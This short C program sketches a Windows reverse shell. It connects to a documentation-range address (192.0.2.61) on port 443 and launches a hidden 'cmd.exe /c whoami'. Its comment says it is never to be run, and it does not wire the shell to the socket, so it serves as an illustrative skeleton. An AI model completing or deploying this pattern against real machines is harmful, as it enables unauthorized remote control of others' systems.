/* Shape of a reverse shell (never run): a socket to a TEST-NET address and
   CreateProcess of cmd.exe. */
#include <winsock2.h>
#include <windows.h>
int main(void) {
  WSADATA w; WSAStartup(0x202, &w);
  SOCKET s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = {0}; a.sin_family = AF_INET; a.sin_port = htons(443);
  a.sin_addr.s_addr = inet_addr("192.0.2.61");
  if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 1;
  STARTUPINFOA si = {sizeof si}; PROCESS_INFORMATION pi;
  char cmd[] = "cmd.exe /c whoami";
  CreateProcessA(0, cmd, 0, 0, FALSE, CREATE_NO_WINDOW, 0, 0, &si, &pi);
  closesocket(s); WSACleanup();
  return 0;
}
